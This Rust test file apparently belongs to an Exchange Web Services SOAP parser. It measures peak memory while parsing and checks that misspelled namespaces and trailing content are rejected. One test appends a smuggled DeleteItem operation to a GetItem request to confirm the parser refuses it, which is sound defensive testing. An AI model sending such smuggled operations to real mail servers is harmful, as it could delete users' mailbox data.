    if in_child || reset_peak_rss().is_none() {
        let input = build();
        let before = reset_peak_rss();
        check(&input);
        match (before, peak_rss()) {
            (Some(before), Some(after)) => println!(
                "{PEAK_LINE}{} {}",
                input.len(),
                after.saturating_sub(before)
            ),
            _ => println!("skipped: peak memory not measured (no resettable VmHWM in /proc/self)"),
        }
        return None;
    }
    let output = std::process::Command::new(std::env::current_exe().expect("test binary path"))
        .args([test, "--exact", "--nocapture", "--test-threads=1"])
        .env(CHILD_ENV, "1")
        .output()
        .expect("re-run the test binary");
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "child run of {test} failed:\n{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    // libtest prints the test's name first, on the same line.
    let (_, figures) = stdout
        .lines()
        .find_map(|line| line.split_once(PEAK_LINE))
        .expect("the child reports");
    let mut numbers = figures
        .split_whitespace()
        .map(|n| n.parse::<usize>().expect("a number"));
    let (input, growth) = (
        numbers.next().expect("input size"),
        numbers.next().expect("growth"),
    );
    println!("{test}: input {input} bytes, peak RSS growth while parsing {growth} bytes");
    Some(PeakGrowth { input, growth })
}

fn peak_rss() -> Option<usize> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let kib = status.lines().find_map(|l| l.strip_prefix("VmHWM:"))?;
    kib.trim()
        .trim_end_matches("kB")
        .trim()
        .parse::<usize>()
        .ok()
        .map(|kib| kib * 1024)
}

/// Resets the peak resident set size to the current one (Linux `clear_refs`) and returns it.
fn reset_peak_rss() -> Option<usize> {
    std::fs::write("/proc/self/clear_refs", "5").ok()?;
    peak_rss()
}
#[test]
fn misspelled_types_namespace_is_an_error_not_a_sync_without_changes() {
    let wrong = "http://schemas.microsoft.com/exchange/services/2006/type";
    let bytes = replace_all(&sync_bytes(), TYPES_NS, wrong);
    let result = parse::<SyncFolderItemsResponse>(&bytes);
    assert!(
        matches!(&result, Err(Error::UnexpectedElement { namespace: Some(ns), .. }) if ns == wrong),
        "{result:?}"
    );
}

#[test]
fn misspelled_types_namespace_is_an_error_not_a_get_item_without_items() {
    let wrong = "http://schemas.microsoft.com/exchange/services/2006/type";
    let bytes = replace_all(&get_item_bytes(), TYPES_NS, wrong);
    let result = parse::<GetItemResponse>(&bytes);
    assert!(
        matches!(&result, Err(Error::UnexpectedElement { namespace: Some(ns), .. }) if ns == wrong),
        "{result:?}"
    );
}

// ---------------------------------------------------------------------------------------------------
// Content after the Body's child.
// ---------------------------------------------------------------------------------------------------

#[test]
fn content_after_the_body_child_is_a_typed_error() {
    let clean = sync_bytes();
    let cases: [(&[u8], &[u8], &str); 6] = [
        (
            b"</m:SyncFolderItemsResponse>",
            b"<m:GetItemResponse/>",
            "SyncFolderItemsResponse",
        ),
        (
            b"</m:SyncFolderItemsResponse>",
            b"and more",
            "SyncFolderItemsResponse",
        ),
        (
            b"</m:SyncFolderItemsResponse>",
            b"&amp;",
            "SyncFolderItemsResponse",
        ),
        (b"</s:Body>", b"<s:Trailer/>", "Body"),
        (b"</s:Envelope>", b"<Envelope/>", "Envelope"),
        (b"</s:Envelope>", b"\n0\r\n", "Envelope"),
    ];
    for (marker, extra, expected_after) in cases {
        let damaged = insert_after(&clean, marker, extra);
        match parse::<SyncFolderItemsResponse>(&damaged) {
            Err(Error::TrailingContent { after, found }) => {
                assert_eq!(after, expected_after, "{found}");
            }
            other => panic!(
                "{} after {}: {other:?}",
                String::from_utf8_lossy(extra),
                String::from_utf8_lossy(marker)
            ),
        }
    }
    // Whitespace, comments and processing instructions may trail at every level.
    let mut harmless = clean.clone();
    for marker in [
        &b"</m:SyncFolderItemsResponse>"[..],
        b"</s:Body>",
        b"</s:Envelope>",
    ] {
        harmless = insert_after(&harmless, marker, b"\r\n <!-- trace id 42 --><?log x?>\t");
    }
    assert_eq!(
        parse::<SyncFolderItemsResponse>(&harmless).unwrap(),
        parse::<SyncFolderItemsResponse>(&clean).unwrap()
    );
}

#[test]
fn content_after_a_bare_operation_element_or_a_request_is_a_typed_error() {
    let bare = format!(
        "<m:SyncFolderItemsResponse xmlns:m=\"{MESSAGES_NS}\"><m:ResponseMessages/></m:SyncFolderItemsResponse>"
    );
    assert!(parse::<SyncFolderItemsResponse>(bare.as_bytes()).is_ok());
    let trailing = format!("{bare}<Extra/>");
    assert!(matches!(
        parse::<SyncFolderItemsResponse>(trailing.as_bytes()),
        Err(Error::TrailingContent { after, .. }) if after == "SyncFolderItemsResponse"
    ));
    let request = ews_types::soap::request_envelope(
        &Default::default(),
        &ews_types::operations::GetItem::new(
            ews_types::types::ItemShape::id_only(),
            [ItemId::new("AAMk")],
        ),
    );
    let smuggled = insert_after(&request, b"</m:GetItem>", b"<m:DeleteItem/>");
    assert!(matches!(
        ews_types::soap::parse_request::<ews_types::operations::GetItem>(&smuggled),
        Err(Error::TrailingContent { after, found }) if after == "GetItem" && found.contains("DeleteItem")
    ));
}
